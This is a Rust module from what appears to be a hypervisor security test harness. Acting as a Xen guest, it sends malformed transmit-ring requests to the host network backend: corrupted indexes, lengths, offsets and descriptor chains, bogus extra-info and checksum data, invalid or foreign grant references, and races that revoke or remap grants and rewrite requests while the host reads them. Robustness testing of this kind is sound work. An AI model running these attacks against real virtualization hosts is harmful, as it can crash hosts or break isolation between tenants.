//! Attacks on the transmit ring: indexes, lengths, chains, grants.

use crate::net::{self, CSUM_BLANK, EXTRA_INFO, FRAME, MORE_DATA, Tx};
use crate::target::{GRANTS_STAY, Net, Target};
use xen_rt::grant::Access;

/// Milliseconds the host gets to react.
const A_WHILE: u64 = 20;

/// A whole, right request for a frame that is there, to be bent.
fn good(target: &mut Target) -> Option<Tx> {
    let net = target.net.as_ref()?;
    let frame = net::udp(net::BROADCAST, net.mac, [255; 4], net.ipv4);
    let gref = target.grant(0, Access::Read);
    target.fill(0, &frame);
    Some(Tx { gref, size: FRAME as u16, ..Tx::default() })
}

fn ring(target: &Target) -> Option<&Net> {
    target.net.as_ref()
}

/// Sends one bent request a few times over.
fn send(target: &mut Target, bend: impl Fn(Tx) -> Tx) -> Option<()> {
    let request = bend(good(target)?);
    let net = ring(target)?;
    for id in 0..8 {
        net.tx.push(&Tx { id: request.id.wrapping_add(id), ..request }.bytes());
    }
    target.kick(net.slot);
    target.pause(A_WHILE);
    Some(())
}

/// Sends slots as they are.
fn send_slots<const N: usize>(target: &mut Target, slots: [[u8; 12]; N]) -> Option<()> {
    let net = ring(target)?;
    slots.iter().for_each(|slot| net.tx.push(slot));
    target.kick(net.slot);
    target.pause(A_WHILE);
    Some(())
}

pub(crate) fn wild_index(target: &mut Target) -> Option<()> {
    let net = ring(target)?;
    net.tx.set_produced(net.tx.produced().wrapping_add(1 << 31));
    target.kick(net.slot);
    target.pause(A_WHILE);
    Some(())
}

pub(crate) fn index_back(target: &mut Target) -> Option<()> {
    let net = ring(target)?;
    net.tx.set_produced(net.tx.produced().wrapping_sub(1));
    target.kick(net.slot);
    target.pause(A_WHILE);
    Some(())
}

pub(crate) fn over_full(target: &mut Target) -> Option<()> {
    let request = good(target)?.bytes();
    let net = ring(target)?;
    (0..net.tx.slots).for_each(|position| net.tx.put(position, &request));
    net.tx.set_produced(net.tx.answered().wrapping_add(net.tx.slots + 1));
    target.kick(net.slot);
    target.pause(A_WHILE);
    Some(())
}

pub(crate) fn responses(target: &mut Target) -> Option<()> {
    let request = good(target)?.bytes();
    let net = ring(target)?;
    net.tx.push(&request);
    net.tx.set_answered(net.tx.answered().wrapping_sub(100));
    target.kick(net.slot);
    target.pause(A_WHILE);
    Some(())
}

pub(crate) fn events(target: &mut Target) -> Option<()> {
    let request = good(target)?.bytes();
    for step in 0..64 {
        let net = ring(target)?;
        net.tx.set_events(step * 0x1357_9bdf, step * 0x2468_ace1);
        net.tx.push(&request);
        target.kick(net.slot);
    }
    target.pause(A_WHILE);
    Some(())
}

pub(crate) fn wild_id(target: &mut Target) -> Option<()> {
    send(target, |tx| Tx { id: 0xfff0, ..tx })
}

pub(crate) fn too_long(target: &mut Target) -> Option<()> {
    send(target, |tx| Tx { size: u16::MAX, ..tx })
}

pub(crate) fn over_the_page(target: &mut Target) -> Option<()> {
    send(target, |tx| Tx { offset: 4090, ..tx })?;
    send(target, |tx| Tx { offset: u16::MAX, ..tx })
}

pub(crate) fn too_short(target: &mut Target) -> Option<()> {
    send(target, |tx| Tx { size: 0, ..tx })?;
    send(target, |tx| Tx { size: 13, ..tx })
}

pub(crate) fn chain_lies(target: &mut Target) -> Option<()> {
    let tx = good(target)?;
    let first = Tx { flags: MORE_DATA, size: 100, ..tx };
    send_slots(target, [first.bytes(), Tx { size: 4000, ..tx }.bytes()])?;
    let first = Tx { flags: MORE_DATA, size: 65_000, ..tx };
    send_slots(target, [first.bytes(), Tx { size: 100, ..tx }.bytes()])
}

pub(crate) fn chain_endless(target: &mut Target) -> Option<()> {
    let tx = good(target)?;
    let slot = Tx { flags: MORE_DATA, ..tx }.bytes();
    for _ in 0..4 {
        send_slots(target, [slot; 64])?;
    }
    Some(())
}

pub(crate) fn chain_cut(target: &mut Target) -> Option<()> {
    let tx = good(target)?;
    send_slots(target, [Tx { flags: MORE_DATA, size: 2000, ..tx }.bytes()])
}

pub(crate) fn extra_wild(target: &mut Target) -> Option<()> {
    let tx = Tx { flags: EXTRA_INFO, ..good(target)? };
    let wild = net::extra(99, 0xff, 99, u16::MAX);
    send_slots(target, [tx.bytes(), wild, wild, wild])?;
    send_slots(target, [tx.bytes(), net::extra(0, 1, 0, 0), net::extra(0, 0, 0, 0)])
}

pub(crate) fn extra_endless(target: &mut Target) -> Option<()> {
    let tx = Tx { flags: EXTRA_INFO, ..good(target)? };
    send_slots(target, [tx.bytes()])?;
    let more = net::extra(1, 1, 1, 1400);
    for _ in 0..4 {
        send_slots(target, [more; 60])?;
    }
    Some(())
}

pub(crate) fn gso_lies(target: &mut Target) -> Option<()> {
    let tx = Tx { flags: EXTRA_INFO | CSUM_BLANK, ..good(target)? };
    for (kind, size) in [(1, 0), (1, 1), (2, 1400), (9, 1400), (1, u16::MAX)] {
        send_slots(target, [tx.bytes(), net::extra(1, 0, kind, size)])?;
    }
    Some(())
}

pub(crate) fn csum_lies(target: &mut Target) -> Option<()> {
    let tx = Tx { flags: CSUM_BLANK, ..good(target)? };
    for size in [14, 20, 33, 35, 41] {
        send_slots(target, [Tx { size, ..tx }.bytes()])?;
    }
    // An IP header that says it is longer than the packet, and one shorter than any.
    for first in [0x4f, 0x40, 0x60, 0x00] {
        target.fill(0, &[0xff; 14]);
        let mut frame = [0; FRAME];
        frame[12..15].copy_from_slice(&[8, 0, first]);
        target.fill(0, &frame);
        send_slots(target, [tx.bytes()])?;
    }
    Some(())
}

pub(crate) fn bad_grant(target: &mut Target) -> Option<()> {
    for gref in [0, 7, 500, 511, 512, 100_000, u32::MAX] {
        send(target, |tx| Tx { gref, ..tx })?;
    }
    Some(())
}

pub(crate) fn foreign_frame(target: &mut Target) -> Option<()> {
    const PERMIT: u16 = 1;
    // Frames that are not the guest's: nowhere, Xen's, and somebody's.
    for (entry, frame) in [(490, u32::MAX), (491, 0xf_ee00), (492, 0x10_0000)] {
        target.grants.write(entry, 0, frame, PERMIT);
        send(target, |tx| Tx { gref: entry, ..tx })?;
        target.grants.write(entry, 0, 0, 0);
    }
    Some(())
}

pub(crate) fn grant_vanishes(target: &mut Target) -> Option<()> {
    const ENTRY: u32 = 495;
    let request = good(target)?;
    let frame = u32::try_from(target.boot.frame(target.pages.address(0).addr())).ok()?;
    for _ in 0..200 {
        target.grants.write(ENTRY, 0, frame, 1);
        let net = ring(target)?;
        net.tx.push(&Tx { gref: ENTRY, ..request }.bytes());
        target.kick(net.slot);
        target.grants.write(ENTRY, 0, 0, 0);
    }
    target.pause(A_WHILE);
    Some(())
}

/// Takes a grant back that it has said stays, and has it name other frames, while the host has the
/// page mapped; then leaves the device, so that the host unmaps what is not there any more.
pub(crate) fn kept_vanishes(target: &mut Target) -> Option<()> {
    const ENTRY: u32 = 494;
    let request = Tx { gref: ENTRY, ..good(target)? };
    let frame = |page| u32::try_from(target.boot.frame(target.pages.address(page).addr())).ok();
    let (first, second) = (frame(0)?, frame(1)?);
    let slot = ring(target)?.slot;
    for _ in 0..4 {
        target.take_again(slot, GRANTS_STAY);
        let entries = [
            (first, 1),
            (first, 1),
            (first, 1),
            (0, 0),
            (second, 1),
            (0, 1),
            (u32::MAX, 1),
            (0, 0),
        ];
        for (frame, permitted) in entries {
            target.grants.write(ENTRY, 0, frame, permitted);
            send(target, |_| request)?;
        }
    }
    target.take_again(slot, GRANTS_STAY);
    send(target, |_| request)
}

/// Changes request and packet again and again while the host may be reading them.
pub(crate) fn rewrite(target: &mut Target) -> Option<()> {
    let request = good(target)?;
    for turn in 0..200_u16 {
        let net = ring(target)?;
        let position = net.tx.produced();
        net.tx.push(&request.bytes());
        target.kick(net.slot);
        for step in 0..50_u16 {
            let size = if step & 1 == 0 { u16::MAX } else { FRAME as u16 };
            let bent = Tx { size, flags: step & 0xf, offset: step.wrapping_mul(turn), ..request };
            ring(target)?.tx.put(position, &bent.bytes());
            target.fill(0, &step.to_le_bytes());
        }
    }
    target.pause(A_WHILE);
    Some(())
}
